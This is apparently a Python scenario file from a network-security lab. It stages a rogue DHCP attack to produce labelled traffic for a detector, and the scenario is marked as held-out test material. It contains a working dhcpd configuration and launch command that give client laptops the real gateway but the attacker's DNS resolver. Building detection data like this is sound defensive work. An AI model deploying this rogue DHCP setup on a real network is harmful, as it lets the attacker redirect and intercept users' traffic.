"""ISC's server beside the network's own: the true gateway, but another resolver."""

from lab import servers
from lab.clients import UDHCPC_SCRIPT, _script
from lab.range import Range
from lab.scenario import Scenario

CONFIGURATION = """
authoritative;
ping-check false;
default-lease-time 900;
subnet 10.20.0.0 netmask 255.255.255.0 {
  range 10.20.0.120 10.20.0.139;
  option routers 10.20.0.1;
  option domain-name-servers ATTACKER;
}
"""


def run(net: Range) -> None:
    attacker, server = net.inside("pc4"), net.inside("dhcp")
    clients = [net.inside(f"laptop{number}", address=False) for number in range(1, 7)]
    servers.leases(
        server, "10.20.0.200", "10.20.0.240", "10.20.0.1", "dhcp-option=option:dns-server,10.20.0.53"
    )
    conf, leases = attacker.folder / "dhcpd.conf", attacker.folder / "dhcpd.leases"
    conf.write_text(CONFIGURATION.replace("ATTACKER", attacker.ip))
    leases.touch()
    net.everyday()
    net.loop(attacker, f"curl -s -m 3 -o /dev/null http://{net.web().ip}/", 1.5)

    def lease(number: int) -> None:
        script = _script(clients[number], "udhcpc.sh", UDHCPC_SCRIPT)
        clients[number].run(*("udhcpc", "-f", "-n", "-q", "-i", "eth0", "-s", str(script)), check=False)

    for number in range(2):
        lease(number)
        net.quiet(2)
    with net.attack(
        "rogue-dhcp",
        by=attacker,
        attackers=[attacker.mac],
        victims=[client.mac for client in clients[2:]],
        frames="udp src port 67",
        responses="udp dst port 67 or udp src port 67",
    ):
        words = f"dhcpd -4 -f -d -cf {conf} -lf {leases} -pf {attacker.folder / 'dhcpd.pid'} eth0"
        process = net.start(attacker, *words.split())
        net.quiet(2)
        for number in range(2, 6):
            lease(number)
            net.quiet(2.5)
        net.end(process)
    net.quiet(3)


SCENARIO = Scenario(
    name="rogue-dhcp-held-resolver",
    about="dhcpd on a person's computer gives four of six newcomers the right gateway and its own resolver.",
    detectors=("rogue-dhcp",),
    tools={"dhcpd": "isc-dhcp-server", "udhcpc": "busybox"},
    held_out=True,
    snap_octets=400,
    run=run,
)
